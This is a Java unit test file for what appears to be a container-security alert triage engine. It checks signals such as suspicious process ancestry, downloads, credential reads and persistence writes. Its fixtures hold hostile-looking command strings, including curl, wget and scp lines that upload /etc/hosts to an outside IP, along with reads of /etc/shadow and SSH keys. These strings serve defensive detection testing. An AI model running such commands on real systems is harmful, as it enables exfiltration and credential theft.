package io.hivesec.triage;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.alert.Alert;
import io.hivesec.alert.AlertType;
import io.hivesec.alert.ArtifactIdentity;
import io.hivesec.alert.Confidence;
import io.hivesec.alert.Exemption;
import io.hivesec.alert.Finding;
import io.hivesec.alert.Rule;
import io.hivesec.alert.Subject;
import io.hivesec.alert.Triage;
import io.hivesec.artifact.Digests;
import io.hivesec.event.Container;
import io.hivesec.event.ContainerStarted;
import io.hivesec.event.Context;
import io.hivesec.event.Endpoint;
import io.hivesec.event.Event;
import io.hivesec.event.FileOpened;
import io.hivesec.event.FileRenamed;
import io.hivesec.event.FileWritten;
import io.hivesec.event.NetworkConnected;
import io.hivesec.event.OpenFlags;
import io.hivesec.event.Process;
import io.hivesec.event.ProcessStarted;
import io.hivesec.event.User;
import io.hivesec.history.AccessGraph;
import io.hivesec.history.ContainerHistory;
import io.hivesec.history.Histories;
import io.hivesec.history.HistoryLimits;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Each signal of triage, where it shows and where it does not. */
final class SignalsTest {
    private static final Instant START = Instant.parse("2026-01-02T03:04:05Z");
    private static final Container WEB = Container.of("c1", "web-1", "example/web:1");
    private static final Process SHELL = Process.builder()
            .pid(7)
            .executable("/bin/bash")
            .arguments("bash", "/srv/a.php")
            .build();
    private static final Rule RULE = rule("test.shell", AlertType.REVERSE_SHELL, "T1059");
    private static final Endpoint OUTSIDE = Endpoint.of("203.0.113.9", 4444);

    private static Rule rule(String id, AlertType type, String... techniques) {
        return Rule.of(id, type)
                .confidence(Confidence.MEDIUM)
                .techniques(techniques)
                .build();
    }

    private static Alert alert(Rule rule, Subject subject, Instant time) {
        return Alert.begin(rule.id(), Finding.builder(rule, subject).build(), new Alert.Words("", "", ""), time);
    }

    private static Subject subject(Container container, Process process, Process... ancestors) {
        return new Subject(container, process, List.of(ancestors), OUTSIDE, ArtifactIdentity.NONE);
    }

    private static Alert shell(Process... ancestors) {
        return alert(RULE, subject(WEB, SHELL, ancestors), START);
    }

    private static Process process(int pid, String executable, String... arguments) {
        return Process.builder()
                .pid(pid)
                .executable(executable)
                .arguments(arguments)
                .build();
    }

    private static Context at(int second, Process process) {
        return Context.of(START.plusSeconds(second), WEB, process);
    }

    private static ProcessStarted run(int second, String executable, String... arguments) {
        return new ProcessStarted(at(second, process(20, executable, arguments)));
    }

    private static FileWritten write(int second, String path) {
        return new FileWritten(at(second, process(20, "/bin/cp")), path, OpenFlags.WRITE);
    }

    /** What triage says after these events of the alert's container, and with these other alerts. */
    private static Triage triage(Alert alert, List<? extends Event> events, Alert... others) {
        Histories histories = new Histories(HistoryLimits.DEFAULT);
        Triage said = new Triager(List.of()).triage(alert, new Surroundings(null, null, List.of(others)));
        for (Event event : events) {
            said = histories.record(
                    event,
                    (ContainerHistory history) ->
                            new Triager(List.of()).triage(alert, new Surroundings(history, null, List.of(others))));
        }
        return said;
    }

    private static Optional<String> detail(Triage triage, String signal) {
        return triage.signals().stream()
                .filter(one -> one.name().equals(signal))
                .map(Triage.Signal::detail)
                .findFirst();
    }

    @Nested
    final class OfTheProgram {
        @Test
        void server_amongItsAncestors_speaksAgainst() {
            Triage triage = triage(shell(process(6, "/bin/sh"), process(5, "/usr/sbin/php-fpm8.2")), List.of());
            assertThat(detail(triage, "server-parent")).contains("/usr/sbin/php-fpm8.2 is an ancestor");
            assertThat(detail(triage, "interactive-lineage")).isEmpty();
        }

        @Test
        void person_nearerThanAServer_speaksFor() {
            Triage triage = triage(shell(process(6, "/usr/sbin/sshd"), process(5, "/usr/sbin/nginx")), List.of());
            assertThat(detail(triage, "interactive-lineage")).contains("/usr/sbin/sshd is an ancestor");
            assertThat(detail(triage, "server-parent")).isEmpty();
        }

        @Test
        void otherAncestors_sayNothing_andNoneIsNotChecked() {
            Triage triage = triage(shell(process(6, "/sbin/init")), List.of());
            assertThat(triage.signals()).extracting(Triage.Signal::name).containsExactly("prior", "target-scope");
            assertThat(triage.notChecked()).noneMatch(what -> what.startsWith("who started it"));
            assertThat(triage(shell(), List.of()).notChecked()).anyMatch(what -> what.startsWith("who started it"));
        }

        @Test
        void program_inTmp_speaksAgainst() {
            Alert dropped = alert(RULE, subject(WEB, process(7, "/tmp/x")), START);
            assertThat(detail(triage(dropped, List.of()), "executable-in-writable-place"))
                    .contains("/tmp/x");
            assertThat(detail(triage(shell(), List.of()), "executable-in-writable-place"))
                    .isEmpty();
        }

        @Test
        void noProcess_asksNothingOfAProgram() {
            Alert page = alert(RULE, Subject.of(WEB), START);
            assertThat(triage(page, List.of()).notChecked())
                    .noneMatch(what -> what.startsWith("who started it"))
                    .noneMatch(what -> what.startsWith("where it connects to"))
                    .noneMatch(what -> what.contains("executable"));
        }

        @Test
        void program_thatWasRenamedIntoPlace_isNotOfTheImage() {
            Triage triage =
                    triage(shell(), List.of(new FileRenamed(at(1, process(20, "/bin/mv")), "/tmp/a", "/bin/bash")));
            assertThat(detail(triage, "executable-not-from-image"))
                    .contains("/bin/mv wrote /bin/bash at 2026-01-02T03:04:06Z");
        }

        @Test
        void otherFiles_written_sayNothingOfTheProgram() {
            Triage triage = triage(shell(), List.of(write(1, "/srv/log"), run(2, "/bin/ls")));
            assertThat(detail(triage, "executable-not-from-image")).isEmpty();
            assertThat(triage.notChecked()).noneMatch(what -> what.startsWith("whether the executable is from"));
        }

        @Test
        void sensorThatTellsOfNoWrites_leavesTheOriginUnchecked() {
            assertThat(triage(shell(), List.of(run(2, "/bin/ls"))).notChecked())
                    .anyMatch(what -> what.endsWith("no event tells of files written"));
            assertThat(triage(shell(), List.of()).notChecked()).contains("whether the executable is from the image");
        }

        @ParameterizedTest
        @CsvSource({
            "VIRUS, /bin/bash, true",
            "WEB_BACKDOOR, /srv/a.php, true",
            "VIRUS, bash, false",
            "VIRUS, /srv/b.php, false",
            "MALICIOUS_COMMAND, /bin/bash, false",
        })
        void verdict_onItsProgramOrScript_speaksAgainst(AlertType type, String file, boolean expected) {
            Subject of = Subject.of(WEB).withArtifact(new ArtifactIdentity(file, Digests.NONE));
            Triage triage = triage(shell(), List.of(), alert(rule("other.rule", type), of, START));
            assertThat(detail(triage, "file-verdict").isPresent()).isEqualTo(expected);
            assertThat(triage.notChecked().stream().anyMatch(what -> what.endsWith("it was not scanned")))
                    .isEqualTo(!expected);
        }
    }

    @Nested
    final class OfTheTimeline {
        @ParameterizedTest
        @CsvSource({"-600, true", "-601, false", "0, true", "1, false"})
        void download_inTheTenMinutesBefore_speaksAgainst(int second, boolean expected) {
            Triage triage = triage(shell(), List.of(run(second, "/usr/bin/curl", "curl", "http://203.0.113.9/a")));
            assertThat(detail(triage, "download-before").isPresent()).isEqualTo(expected);
        }

        @ParameterizedTest
        @CsvSource({"http://127.0.0.1/health", "http://localhost:80/"})
        void download_fromItself_isNone(String url) {
            assertThat(detail(triage(shell(), List.of(run(-9, "/usr/bin/curl", "curl", url))), "download-before"))
                    .isEmpty();
        }

        @ParameterizedTest
        @CsvSource({
            "scp /etc/hosts root@203.0.113.9:/tmp/a, false",
            "scp root@203.0.113.9:/tmp/a /tmp/a, true",
            "rsync -a /srv 203.0.113.9::backup/srv, false",
            "rsync -a rsync://203.0.113.9/a /srv/a, true",
            "curl -T /etc/hosts http://203.0.113.9/, false",
            "curl --upload-file=/etc/hosts http://203.0.113.9/, false",
            "wget --post-file=/etc/hosts http://203.0.113.9/, false",
            "wget -T 5 http://203.0.113.9/a, true"
        })
        void copier_speaksAgainstWhatItFetchedAndNotWhatItSent(String command, boolean expected) {
            String[] words = command.split(" ");
            Triage triage = triage(shell(), List.of(run(-9, "/usr/bin/" + words[0], words)));
            assertThat(detail(triage, "download-before").isPresent()).isEqualTo(expected);
        }

        @Test
        void download_withoutArguments_isNone() {
            assertThat(detail(triage(shell(), List.of(run(-9, "/usr/bin/curl", "curl"))), "download-before"))
                    .isEmpty();
        }

        @Test
        void longCommand_isCut() {
            String url = "http://203.0.113.9/" + "a".repeat(200);
            assertThat(detail(triage(shell(), List.of(run(-9, "/usr/bin/curl", "curl", url))), "download-before"))
                    .hasValueSatisfying(
                            detail -> assertThat(detail).startsWith(("curl " + url).substring(0, 160) + "… at"));
            String exact = "http://203.0.113.9/" + "a".repeat(136);
            assertThat(detail(triage(shell(), List.of(run(-9, "/usr/bin/curl", "curl", exact))), "download-before"))
                    .hasValueSatisfying(detail -> assertThat(detail).startsWith("curl " + exact + " at"));
        }

        @ParameterizedTest
        @CsvSource({"0, false", "1, true", "600, true", "601, false"})
        void reconnaissance_afterIt_speaksAgainst(int second, boolean expected) {
            Triage triage = triage(shell(), List.of(run(second, "/usr/bin/whoami", "whoami")));
            assertThat(detail(triage, "after-reconnaissance").isPresent()).isEqualTo(expected);
        }

        @ParameterizedTest
        @CsvSource({"-1, /etc/shadow, false", "0, /etc/shadow, true", "5, /etc/hosts, false"})
        void credentials_readAfterIt_speakAgainst(int second, String path, boolean expected) {
            Triage triage =
                    triage(shell(), List.of(new FileOpened(at(second, process(20, "/bin/cat")), path, OpenFlags.READ)));
            assertThat(detail(triage, "after-credential-read").isPresent()).isEqualTo(expected);
        }

        @ParameterizedTest
        @CsvSource({
            "/usr/bin/sudo, /etc/sudoers.d/ann, false",
            "/usr/sbin/sshd, /etc/shadow, false",
            "/bin/bash, /root/.bash_history, false",
            "/usr/bin/kubectl, /root/.kube/config, false",
            "/usr/bin/kubectl, /root/.aws/credentials, true",
            "/usr/bin/curl, /etc/shadow, true",
            "/tmp/su, /root/.ssh/id_rsa, true",
        })
        void credentials_readByWhoeverTheyAreFor_speakNotAgainst(String program, String path, boolean expected) {
            Triage triage = triage(shell(), List.of(new FileOpened(at(5, process(20, program)), path, OpenFlags.READ)));
            assertThat(detail(triage, "after-credential-read").isPresent()).isEqualTo(expected);
        }

        @ParameterizedTest
        @CsvSource({"-1, /etc/cron.d/a, false", "0, /etc/cron.d/a, true", "5, /srv/a, false"})
        void persistence_writtenAfterIt_speaksAgainst(int second, String path, boolean expected) {
            Triage triage = triage(shell(), List.of(write(second, path)));
            assertThat(detail(triage, "after-persistence").isPresent()).isEqualTo(expected);
        }

        @Test
        void whatRaisedTheAlert_isNoFurtherEvidence() {
            Alert ofAFile = Alert.begin(
                    "a",
                    Finding.builder(RULE, subject(WEB, SHELL))
                            .evidence("path", "/etc/cron.d/a")
                            .build(),
                    new Alert.Words("", "", ""),
                    START);
            Event own = new FileWritten(at(0, SHELL), "/etc/passwd", OpenFlags.WRITE);
            Event again = new FileWritten(at(9, SHELL), "/etc/cron.d/a", OpenFlags.WRITE);
            assertThat(detail(triage(ofAFile, List.of(own, again)), "after-persistence"))
                    .isEmpty();
            Event more = new FileWritten(at(9, SHELL), "/etc/cron.d/b", OpenFlags.WRITE);
            assertThat(detail(triage(ofAFile, List.of(own, again, more)), "after-persistence"))
                    .hasValueSatisfying(detail -> assertThat(detail).contains("/etc/cron.d/b"));
        }

        @Test
        void download_thatIsTheAlertItself_isNone() {
            Process curl = process(SHELL.pid(), "/usr/bin/curl", "curl", "http://203.0.113.9/a");
            assertThat(detail(triage(shell(), List.of(new ProcessStarted(at(-1, curl)))), "download-before"))
                    .isEmpty();
        }

        @ParameterizedTest
        @CsvSource({
            "/etc/shadow, after-credential-read",
            "/root/.ssh/id_rsa, after-credential-read",
            "/usr/share/app/config/app.keystore, after-credential-read",
            "/etc/passwd, after-reconnaissance",
            "/etc/hosts, none",
            "/etc/passwd-, none",
        })
        void command_namesAFile_tellsWhatWasRead(String path, String expected) {
            Triage triage = triage(shell(), List.of(run(3, "/bin/cat", "cat", path)));
            for (String signal : List.of("after-credential-read", "after-reconnaissance")) {
                assertThat(detail(triage, signal).isPresent()).as(signal).isEqualTo(signal.equals(expected));
            }
        }

        @ParameterizedTest
        @CsvSource({"/usr/bin/ssh, -i", "/bin/sh, cat"})
        void command_thatOnlyUsesOrQuotesAKey_readsNone(String program, String word) {
            Event ssh = word.equals("-i")
                    ? run(3, program, "ssh", word, "/root/.ssh/id_rsa", "a@b")
                    : run(3, program, "sh", "-c", word + " /root/.ssh/id_rsa");
            assertThat(detail(triage(shell(), List.of(ssh)), "after-credential-read"))
                    .isEmpty();
        }

        @ParameterizedTest
        @CsvSource({
            "/usr/bin/curl, 203.0.113.9, true",
            "/usr/bin/curl, 127.0.0.1, false",
            "/bin/app, 203.0.113.9, false"
        })
        void download_ofWhichOnlyTheConnectionIsTold_speaksAgainst(String program, String ip, boolean expected) {
            Event connected = new NetworkConnected(
                    at(-5, process(20, program)), "tcp", Endpoint.UNKNOWN, Endpoint.of(ip, 8000), 3);
            assertThat(detail(triage(shell(), List.of(connected)), "download-before")
                            .isPresent())
                    .isEqualTo(expected);
        }

        @Test
        void credentials_readBefore_countWhereTheSameParentIsBehind() {
            Process script = process(30, "/bin/sh", "sh", "x.sh");
            Process server = process(1, "/usr/sbin/app");
            Process cat = process(31, "/bin/cat", "cat", "/etc/shadow");
            Context reading = new Context(START.minusSeconds(1), WEB, cat, List.of(script, server));
            Alert ofScript = shell(script, server);
            assertThat(detail(triage(ofScript, List.of(new ProcessStarted(reading))), "before-credential-read"))
                    .contains("cat /etc/shadow at 2026-01-02T03:04:04Z");
            Context service = new Context(START.minusSeconds(1), WEB, cat, List.of(server));
            assertThat(detail(triage(ofScript, List.of(new ProcessStarted(service))), "before-credential-read"))
                    .isEmpty();
        }

        @Test
        void environmentsOfManyProcesses_areOneThing() {
            List<Event> events = new ArrayList<>();
            for (int i = 2; i < 20; i++) {
                events.add(new FileOpened(at(3, process(20, "/bin/ps")), "/proc/" + i + "/environ", OpenFlags.READ));
            }
            assertThat(detail(triage(shell(), events), "after-credential-read"))
                    .contains("ps read /proc/<n>/environ at 2026-01-02T03:04:08Z");
        }

        @Test
        void manyOfAKind_areCut() {
            List<Event> events = new ArrayList<>();
            for (int i = 1; i <= 10; i++) {
                events.add(write(i, "/etc/cron.d/" + i));
            }
            assertThat(detail(triage(shell(), events), "after-persistence"))
                    .hasValueSatisfying(detail -> assertThat(detail).endsWith("; …"));
            assertThat(detail(triage(shell(), events.subList(0, 8)), "after-persistence"))
                    .hasValueSatisfying(detail -> assertThat(detail).doesNotContain("…"));
        }

        @Test
        void host_countsOnlyWhatTheAlertsProcessDid() {
            Alert onHost = alert(RULE, subject(Container.HOST, SHELL), START);
            assertThat(detail(triage(onHost, List.of(hostRead(20, List.of()))), "after-credential-read"))
                    .isEmpty();
            assertThat(detail(triage(onHost, List.of(hostRead(7, List.of()))), "after-credential-read"))
                    .isPresent();
            assertThat(detail(triage(onHost, List.of(hostRead(20, List.of(SHELL)))), "after-credential-read"))
                    .isPresent();
            Alert ofNobody = alert(RULE, subject(Container.HOST, Process.UNKNOWN), START);
            assertThat(detail(triage(ofNobody, List.of(hostRead(0, List.of()))), "after-credential-read"))
                    .isEmpty();
        }

        private FileOpened hostRead(int pid, List<Process> ancestors) {
            Process reader = process(pid, "/bin/cat");
            Context context = new Context(START.plusSeconds(5), Container.HOST, reader, ancestors);
            return new FileOpened(context, "/etc/shadow", OpenFlags.READ);
        }

        @Test
        void laterEvents_areAwaitedUntilTheWindowIsOver() {
            assertThat(triage(shell(), List.of(run(599, "/bin/ls"))).notChecked())
                    .anyMatch(what -> what.contains("later ones revise this alert until 2026-01-02T03:14:05Z"));
            assertThat(triage(shell(), List.of(run(600, "/bin/ls"))).notChecked())
                    .noneMatch(what -> what.contains("later ones"));
            assertThat(triage(shell(), List.of()).notChecked())
                    .contains("events before and after: the alert is of no container that is watched");
        }

        @Test
        void otherAlerts_ofTheContainer_countByTechnique() {
            Alert miner = alert(rule("a", AlertType.MALICIOUS_COMMAND, "T1496"), subject(WEB, SHELL), START);
            Alert tunnel = alert(rule("b", AlertType.MALICIOUS_COMMAND, "T1572"), subject(WEB, SHELL), START);
            Alert again = alert(rule("c", AlertType.MALICIOUS_COMMAND, "T1572"), subject(WEB, SHELL), START);
            Triage triage = triage(shell(), List.of(), miner, tunnel, again);
            assertThat(detail(triage, "correlated-alerts")).contains("a, b, c");
            assertThat(triage.signals())
                    .filteredOn(signal -> signal.name().equals("correlated-alerts"))
                    .extracting(Triage.Signal::decibans)
                    .containsExactly(10.0);
        }

        @Test
        void otherAlerts_thatAreFarExemptElsewhereOrOfTheSameRule_doNotCount() {
            Rule other = rule("a", AlertType.MALICIOUS_COMMAND, "T1496");
            Container db = Container.of("c2", "db", "example/db:1");
            assertThat(detail(
                            triage(
                                    shell(),
                                    List.of(),
                                    alert(other, subject(WEB, SHELL), START.minusSeconds(601)),
                                    alert(other, subject(WEB, SHELL), START.plusSeconds(601)),
                                    alert(other, subject(db, SHELL), START),
                                    alert(other, subject(WEB, SHELL), START).exempted(new Exemption("w", "r", "known")),
                                    alert(RULE, subject(WEB, SHELL), START)),
                            "correlated-alerts"))
                    .isEmpty();
            for (int second : List.of(-600, 600)) {
                Alert near = alert(other, subject(WEB, SHELL), START.plusSeconds(second));
                assertThat(detail(triage(shell(), List.of(), near), "correlated-alerts"))
                        .contains("a");
            }
        }
    }

    @Nested
    final class OfTheTarget {
        private final AccessGraph graph = new AccessGraph(1000);

        private void connect(int second, String container, String executable, Endpoint target) {
            Context context = Context.of(
                    START.plusSeconds(second), Container.of(container, container, WEB.image()), process(3, executable));
            graph.record(new NetworkConnected(context, "tcp", Endpoint.UNKNOWN, target, 3));
        }

        private Triage triage(Alert alert, ThreatIntelligence... intelligence) {
            return new Triager(List.of(intelligence)).triage(alert, new Surroundings(null, graph, List.of()));
        }

        @Test
        void target_reachedLongBefore_isNotNew() {
            connect(-300, "c1", "/usr/bin/app", OUTSIDE);
            Triage triage = triage(shell());
            assertThat(detail(triage, "target-first-seen")).isEmpty();
            assertThat(triage.notChecked()).noneMatch(what -> what.startsWith("whether the target is new"));
        }

        @ParameterizedTest
        @CsvSource({"-120, true", "-119, false"})
        void target_isNewOnlyForAnImageWatchedForTwoMinutes(int second, boolean expected) {
            connect(second, "c1", "/usr/bin/app", Endpoint.of("10.0.0.5", 5432));
            connect(-5, "c1", "/bin/bash", OUTSIDE);
            Triage triage = triage(shell());
            assertThat(detail(triage, "target-first-seen").isPresent()).isEqualTo(expected);
            assertThat(triage.notChecked().stream().anyMatch(what -> what.contains("less than 2 minutes")))
                    .isEqualTo(!expected);
        }

        @Test
        void replicas_ofWhichHalfDoTheSame_speakFor() {
            connect(-9, "c1", "/bin/bash", OUTSIDE);
            connect(-9, "c2", "/bin/bash", OUTSIDE);
            connect(-9, "c3", "/bin/sh", OUTSIDE);
            connect(-9, "c4", "/bin/bash", Endpoint.of("203.0.113.9", 443));
            assertThat(detail(triage(shell()), "edge-of-most-replicas"))
                    .hasValueSatisfying(detail -> assertThat(detail).startsWith("2 of 4 replicas"));
            connect(-9, "c5", "/bin/sh", OUTSIDE);
            assertThat(detail(triage(shell()), "edge-of-most-replicas")).isEmpty();
        }

        @Test
        void fewReplicas_areNotCompared() {
            connect(-9, "c1", "/bin/bash", OUTSIDE);
            connect(-9, "c2", "/bin/bash", OUTSIDE);
            Triage triage = triage(shell());
            assertThat(detail(triage, "edge-of-most-replicas")).isEmpty();
            assertThat(triage.notChecked()).anyMatch(what -> what.endsWith("fewer than 3 are known"));
        }

        @Test
        void unknownTarget_isSaidWhenAProcessCouldHaveOne() {
            Subject nowhere = new Subject(WEB, SHELL, List.of(), Endpoint.UNKNOWN, ArtifactIdentity.NONE);
            assertThat(triage(alert(RULE, nowhere, START)).notChecked())
                    .contains("where it connects to: no target is known");
            assertThat(triage(shell()).notChecked()).noneMatch(what -> what.startsWith("where it connects to"));
        }

        @Test
        void internalTarget_mayBeOfTheSameWorkload() {
            Subject inside = new Subject(WEB, SHELL, List.of(), Endpoint.of("10.0.0.9", 22), ArtifactIdentity.NONE);
            String what = "whether the target belongs to the same workload";
            assertThat(triage(alert(RULE, inside, START)).notChecked()).contains(what);
            assertThat(triage(shell()).notChecked()).doesNotContain(what);
        }

        @Test
        void targetOfAContainerWithoutImage_isNotCompared() {
            Container unnamed = Container.of("c9", "x", "");
            assertThat(triage(alert(RULE, subject(unnamed, SHELL), START)).notChecked())
                    .contains("whether the target is new for this image");
        }

        @ParameterizedTest
        @CsvSource({"203.0.113.9:4444", "203.0.113.9", "bad.example", "0123abc"})
        void knownBad_isAskedForEveryFormOfTheTargetAndTheFile(String listed) {
            Subject known = new Subject(
                    WEB,
                    SHELL,
                    List.of(),
                    new Endpoint("203.0.113.9", 4444, "BAD.example"),
                    new ArtifactIdentity("/srv/a", new Digests("", "", "0123abc")));
            ThreatIntelligence list = value -> value.equals(listed) ? Optional.of("listed") : Optional.empty();
            Triage triage = triage(alert(RULE, known, START), list);
            assertThat(detail(triage, "known-bad")).contains(listed + ": listed");
            assertThat(triage.notChecked()).noneMatch(what -> what.startsWith("threat intelligence"));
        }

        @Test
        void knownBad_isNotAskedForNothing() {
            Alert nowhere =
                    alert(RULE, new Subject(WEB, SHELL, List.of(), Endpoint.UNKNOWN, ArtifactIdentity.NONE), START);
            assertThat(detail(triage(nowhere, value -> Optional.of("everything")), "known-bad"))
                    .isEmpty();
        }
    }

    @Nested
    final class OfWhatIsAtStake {
        private String impact(Subject subject, List<? extends Event> events, Alert... others) {
            return triage(alert(RULE, subject, START), events, others).impact().toString();
        }

        private Subject as(Container container, int uid, int euid) {
            User user = new User(uid, 0, euid, 0, "");
            return subject(container, SHELL.toBuilder().user(user).build());
        }

        @ParameterizedTest
        @CsvSource({"1000, 0, true", "0, -1, true", "0, 1000, false", "-1, -1, false"})
        void root_isWhoActsAsRoot(int uid, int euid, boolean expected) {
            String severity = RULE.severity().name().toLowerCase(java.util.Locale.ROOT);
            assertThat(impact(as(WEB, uid, euid), List.of()))
                    .isEqualTo(expected ? severity + ": acts as root" : severity);
        }

        @Test
        void host_isAtStake_whereAProcessIsThere() {
            assertThat(impact(as(Container.HOST, 5, 5), List.of())).endsWith(": on the host");
            assertThat(impact(Subject.of(Container.HOST), List.of())).doesNotContain("host");
        }

        @Test
        void container_thatCanReachItsHost_isSaid() {
            Alert risk = alert(rule("r", AlertType.ESCAPE_RISK), Subject.of(WEB), START);
            Alert other = alert(rule("r", AlertType.VIRUS), Subject.of(WEB), START);
            assertThat(impact(as(WEB, 5, 5), List.of(), risk)).endsWith(": the container can reach its host");
            assertThat(impact(as(WEB, 5, 5), List.of(), other)).doesNotContain("host");
        }

        @ParameterizedTest
        @CsvSource(
                delimiter = '@',
                value = {
                    "{\"Privileged\": true} @ privileged container",
                    "/run/docker.sock @ holds the engine's socket",
                    "/run/containerd/containerd.sock @ holds the engine's socket",
                })
        void configuration_ofItsStart_isReadForWhatItGrants(String configuration, String expected) {
            List<Event> events = List.of(new ContainerStarted(at(0, Process.UNKNOWN), configuration));
            assertThat(impact(as(WEB, 5, 5), events)).endsWith(": " + expected);
        }

        @Test
        void configuration_thatGrantsNothing_isNotSaid() {
            List<Event> events =
                    List.of(new ContainerStarted(at(0, Process.UNKNOWN), "{\"Privileged\": false, \"Binds\": []}"));
            assertThat(impact(as(WEB, 5, 5), events)).doesNotContain(":");
        }
    }

    @ParameterizedTest
    @CsvSource({"9, false", "10, true"})
    void repeats_fromTenOn_speakFor(int count, boolean expected) {
        Alert repeated = shell().withSightings(new Alert.Sightings(START, START, count));
        assertThat(detail(triage(repeated, List.of()), "repeats").isPresent()).isEqualTo(expected);
    }

    @Test
    void mayMatter_onlyWhatSignalsAskFor() {
        Triager triager = new Triager(List.of());
        assertThat(triager.mayMatter(run(1, "/usr/bin/whoami"))).isTrue();
        assertThat(triager.mayMatter(run(1, "/usr/bin/cat"))).isFalse();
        assertThat(triager.mayMatter(write(1, "/etc/cron.d/a"))).isTrue();
        assertThat(triager.mayMatter(write(1, "/srv/a"))).isFalse();
    }
}
